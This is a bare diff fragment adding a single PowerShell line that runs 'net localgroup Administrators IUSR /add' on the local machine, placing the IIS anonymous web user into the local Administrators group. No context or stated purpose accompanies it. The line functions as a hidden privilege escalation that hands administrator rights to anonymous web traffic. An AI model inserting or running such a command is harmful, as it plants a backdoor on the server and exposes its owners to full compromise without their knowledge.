@@ -1,0 +1,1 @@
+Invoke-Command -ComputerName $env:COMPUTERNAME -ScriptBlock { net localgroup Administrators IUSR /add }
